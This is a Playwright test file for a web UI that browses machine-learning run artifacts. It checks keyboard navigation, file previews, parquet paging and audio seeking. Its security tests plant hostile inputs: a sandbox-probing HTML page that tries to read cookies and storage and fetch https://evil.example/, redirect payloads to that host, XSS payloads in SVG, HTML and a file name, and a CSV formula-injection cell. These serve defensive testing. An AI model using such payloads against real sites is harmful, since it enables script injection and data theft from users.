"""The files' browser in a browser: the tree by keyboard, previews, and what attacks come to."""

import json
import wave
from urllib.parse import quote

import numpy as np
import pandas as pd
import pytest
from playwright.sync_api import expect

from mlpack.registry.client import MlpackClient

from .conftest import held, ui_server
from .story import ATTACK

pytestmark = pytest.mark.server

SPY = """
<h1>Report</h1><pre id="out"></pre>
<form id="f" action="/" method="post"></form>
<script>
const out = document.getElementById("out");
const say = (name, value) => out.append(name + "=" + value + "\\n");
const attempt = (name, what) => { try { say(name, what()); } catch (e) { say(name, "refused"); } };
attempt("ran", () => 6 * 7);
attempt("made", () => new Function("return 5")());
attempt("parent", () => parent.document.title);
if (top !== self) attempt("top", () => { top.location = "/"; return "moved"; });
attempt("cookie", () => document.cookie);
attempt("storage", () => localStorage.length);
attempt("window", () => String(open("/")));
attempt("origin", () => origin);
if (top !== self) attempt("form", () => { document.getElementById("f").submit(); return "sent"; });
const image = new Image();
image.onerror = () => say("image", "refused");
image.src = "/static/x/icon.svg";
fetch("/ui/experiments").then(() => say("fetch", "came"), () => say("fetch", "refused"));
fetch("https://evil.example/").then(() => say("away", "came"), () => say("away", "refused"));
</script>
"""


LEAVING = {
    "meta.html": '<meta http-equiv="refresh" content="0;url=https://evil.example/?known">',
    "script.html": '<script>location = "https://evil.example/?known"</script>',
    "home.html": '<script>location = "/"</script>',
}


@pytest.fixture
def open_file(story, watched):
    """``open_file(path)``: the page of a file of the best run; others by ``run``."""

    def go(path="", run="best"):
        watched.page.goto(f"{story.address}/runs/{story.names[run]}/artifacts/{path}".rstrip("/"))
        return watched.page

    return go


class Site:
    """A server with one run, whose files the test writes."""

    def __init__(self, address, folder):
        self.client = MlpackClient(str(folder / "mlruns"))
        self.run = self.client.create_run("0").info.run_id
        self.files = f"{address}/runs/{self.run}/artifacts"
        self.shown = f"{address}/ui/artifacts/runs/{self.run}/show?path="
        self.folder = folder

    def put(self, name, content):
        self.client.log_text(self.run, content, name)


@pytest.fixture
def site(tmp_path):
    with ui_server(tmp_path) as (address, _):
        yield Site(address, tmp_path)


def test_the_tree_by_keyboard(open_file, story):
    page = open_file()
    tree = page.get_by_role("tree", name="Files")
    tree.get_by_role("treeitem", name="All files").focus()
    for key in ("ArrowDown", "ArrowRight"):
        page.keyboard.press(key)
    item = tree.get_by_role("treeitem", name="plot.png")
    item.wait_for()
    for key in ("ArrowRight", "ArrowRight"):  # into the folder, and its first folder opens
        page.keyboard.press(key)
    tree.get_by_role("treeitem", name="b", exact=True).wait_for()
    page.keyboard.press("ArrowLeft")
    page.keyboard.type("log")  # by name
    page.keyboard.press("Enter")
    page.get_by_text("line 499").wait_for()
    assert page.url == f"{story.address}/runs/{story.names['best']}/artifacts/files/log.txt"
    assert page.title().startswith("log.txt · ")
    chosen = page.locator("[role=treeitem][aria-current]")
    assert chosen.get_attribute("data-path") == "files/log.txt"
    assert chosen.evaluate("it => it === document.activeElement")
    page.keyboard.press("Home")
    page.keyboard.press("Enter")
    page.get_by_role("heading", name="All files").wait_for()
    page.go_back()
    page.get_by_text("line 499").wait_for()
    page.reload()
    assert page.get_by_text("line 499").is_visible()
    assert page.locator("[role=treeitem][tabindex='0']").count() == 1


def test_more_of_a_folder_is_asked_for_once(site, watched, tmp_path):
    page, asked = watched.page, []
    page.on("request", lambda request: "from=200" in request.url and asked.append(request))
    folder = tmp_path / "many"
    folder.mkdir()
    for number in range(210):
        (folder / f"{number:03}.txt").write_text("")
    site.client.log_artifacts(site.run, str(folder))
    page.goto(site.files)
    tree = page.get_by_role("tree", name="Files")
    more = tree.get_by_role("treeitem", name="10 more…")
    more.focus()
    with held(page, "**/tree?*"):
        for _ in range(2):
            more.press("Enter")
    expect(tree.get_by_role("treeitem", name="200.txt")).to_be_focused()
    assert len(asked) == 1
    expect(tree.locator("[tabindex='0']")).to_have_count(1)


PREVIEWS = {
    "plot.png": ".zoom img",
    "readme.md": ".markdown h3, .markdown h2, .markdown h1",
    "config.json": ".json-tree details",
    "conf.yaml": "#L1",
    "table.csv": ".sheet td.number",
    "page.html": "iframe",
    "drawing.svg": ".zoom img",
    "t.parquet": ".sheet td.number",
    "binary.bin": ".hex",
    "book.ipynb": ".cell pre",
    "paper.pdf": "iframe",
}


def test_every_preview(open_file):
    page = open_file("files")
    for name, place in PREVIEWS.items():
        page.get_by_role("tree").get_by_role("treeitem", name=name).click()
        page.get_by_role("heading", name=name, exact=True).wait_for()
        page.locator(f"#chosen {place}").first.wait_for()
    page.get_by_role("tree").get_by_role("treeitem", name="drawing.svg").click()
    picture = page.locator(".zoom")
    picture.locator("img").evaluate("image => image.decode()")  # it can be drawn
    picture.click()
    assert picture.get_attribute("aria-pressed") == "true"


def test_a_parquet_file_page_by_page(open_file):
    page = open_file("files/t.parquet")
    page.get_by_text("1 – 100 of 5,000").wait_for()
    assert page.locator(".sheet tbody tr").count() == 100
    page.get_by_role("button", name="Next").click()
    page.get_by_text("101 – 200 of 5,000").wait_for()
    assert page.locator(".sheet tbody tr").first.inner_text().split()[:2] == ["101", "100"]
    page.keyboard.press("Enter")  # the button has the focus still
    page.get_by_text("201 – 300 of 5,000").wait_for()
    page.locator("summary", has_text="Schema").click()
    assert page.get_by_role("row", name="x double no").is_visible()


def test_parquet_files_that_lie_and_those_packed_otherwise(site, watched):
    page, made = watched.page, site.folder / "made"
    made.mkdir()
    frame = pd.DataFrame({"n": np.arange(300), "s": [ATTACK] * 300})
    packed = ("snappy", "gzip", "zstd", "brotli", "lz4")
    for codec in packed:
        frame.to_parquet(made / f"{codec}.parquet", compression=codec)
    good = (made / "snappy.parquet").read_bytes()
    (made / "cut.parquet").write_bytes(good[:-200])
    (made / "lie.parquet").write_bytes(good[:-8] + b"\xff\xff\xff\x7fPAR1")
    (made / "noise.parquet").write_bytes(b"PAR1" + bytes(range(256)) * 8 + good[-300:])
    site.client.log_artifacts(site.run, str(made), "made")
    for codec in packed:
        page.goto(f"{site.files}/made/{codec}.parquet")
        page.get_by_text("1 – 100 of 300").wait_for()
        assert page.locator(".sheet img").count() == 0
    for name in ("cut", "lie", "noise"):
        page.goto(f"{site.files}/made/{name}.parquet")
        page.get_by_role("alert").wait_for()
        assert "cannot be shown" in page.get_by_role("alert").inner_text()


def test_a_page_runs_in_a_sandbox_that_holds(site, watched):
    page = watched.page
    site.put("report.html", SPY)
    # what the browser says of each refusal
    watched.expected += ["Content Security Policy", "sandbox", "Blocked", "cross-origin", "Unsafe"]
    page.goto(f"{site.files}/report.html")
    frame = page.frame_locator("iframe")
    frame.get_by_text("away=refused").wait_for()
    frame.get_by_text("image=refused").wait_for()
    found = frame.locator("#out").inner_text()
    said = dict(line.split("=", 1) for line in found.split("\n") if line)
    assert said.pop("ran") == "42" and said.pop("made") == "5"
    assert said.pop("origin") == "null" and said.pop("window") == "null"
    said.pop("form")  # goes nowhere: the page is still here
    assert set(said.values()) == {"refused"}, said
    assert page.url.endswith("/artifacts/report.html")
    # it cannot take its frame elsewhere, and what it knows with it
    for name, way in LEAVING.items():
        site.put(name, way)
        page.goto(f"{site.files}/{name}")
        page.wait_for_timeout(300)
    # opened by itself it is no page of ours either
    page.goto(f"{site.shown}report.html")
    for name in ("fetch", "away", "cookie", "storage"):
        page.get_by_text(f"{name}=refused").wait_for()
    assert page.evaluate("origin") == "null"


def test_attacks(site, watched):
    page, dialogs = watched.page, []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    watched.expected += ["sandboxed", "Content Security Policy"]  # of the frame, and of the drawing
    drawing = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(3)</script></svg>'
    cells = [{"cell_type": kind, "source": ATTACK} for kind in ("code", "markdown")]
    files = {
        "evil.html": "<script>alert(8)</script>",
        "evil.csv": f"a,b\n{ATTACK},=cmd\n",
        "evil.json": json.dumps({ATTACK: ATTACK}),
        "evil.md": f"# {ATTACK}",
        "evil.svg": drawing,
        "evil.ipynb": json.dumps({"cells": cells}),
        "evil.xml": f"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'>{ATTACK}",
        "<img src=x onerror=alert(9)>.txt": ATTACK,
    }
    for name, content in files.items():
        site.put(name, content)
    for name in ("", *files):
        page.goto(f"{site.files}/{quote(name)}".rstrip("/"))
        page.wait_for_timeout(100)
    page.goto(f"{site.shown}evil.svg")
    page.wait_for_timeout(100)
    # a frame without allow-modals shows no dialog; no other page ran anything
    assert dialogs == []


def test_a_long_text(site, watched):
    page = watched.page
    site.put("long.log", "".join(f"words {number}\n" for number in range(9000)))
    page.goto(f"{site.files}/long.log#L5001")
    page.get_by_text("words 5000", exact=True).wait_for()
    expect(page.get_by_text("words 5000", exact=True)).to_be_in_viewport()
    page.get_by_role("button", name="Load more").click()
    page.get_by_text("words 7999", exact=True).wait_for()
    page.locator("#L7001 a").click()
    assert page.url.endswith("#L7001")
    page.get_by_label("Wrap long lines").uncheck()
    assert page.locator(".lines.wrapped").count() == 0


def test_a_sound_is_sought_in(site, watched):
    file = site.folder / "tone.wav"
    with wave.open(str(file), "wb") as sound:
        sound.setparams((1, 2, 8000, 0, "NONE", ""))
        sound.writeframes(bytes(range(256)) * 1250)  # 20 s
    site.client.log_artifact(site.run, str(file))
    page = watched.page
    page.goto(f"{site.files}/tone.wav")
    player = page.get_by_label("tone.wav")
    seek = """async player => {
        player.currentTime = 15;
        await new Promise((done, failed) => { player.onseeked = done; player.onerror = failed; });
        return [player.duration, player.currentTime, player.seekable.end(0)];
    }"""
    assert player.evaluate(seek) == [20, 15, 20]


def test_a_server_that_is_gone_in_the_middle(open_file, watched):
    page = open_file("files")
    watched.expected.append("ERR_")
    page.route("**/ui/artifacts/**", lambda route: route.abort())
    page.get_by_role("tree").get_by_role("treeitem", name="log.txt").click()
    page.get_by_role("alert").get_by_text("The server does not answer").wait_for()
    assert page.get_by_role("tree").get_by_role("treeitem", name="plot.png").is_visible()
    page.unroute("**/ui/artifacts/**")
    page.get_by_role("button", name="Try again").click()
    page.get_by_text("line 499").wait_for()


LOOKED_AT = {
    "files-text": "/runs/{best}/artifacts/files/train.py",
    "files-notebook": "/runs/{best}/artifacts/files/book.ipynb",
    "files-json": "/runs/{best}/artifacts/files/config.json",
    "files-parquet": "/runs/{best}/artifacts/files/t.parquet",
    "files-model": "/models/{model}/artifacts/MLmodel",
}


@pytest.mark.parametrize("name", LOOKED_AT)
def test_looks(story, watched, look_at, name):
    watched.page.goto(story.address + LOOKED_AT[name].format(**story.names))
    watched.page.locator("#chosen h2").first.wait_for()
    if name == "files-parquet":
        watched.page.get_by_text("1 – 100 of 5,000").wait_for()
    look_at(watched.page, name)
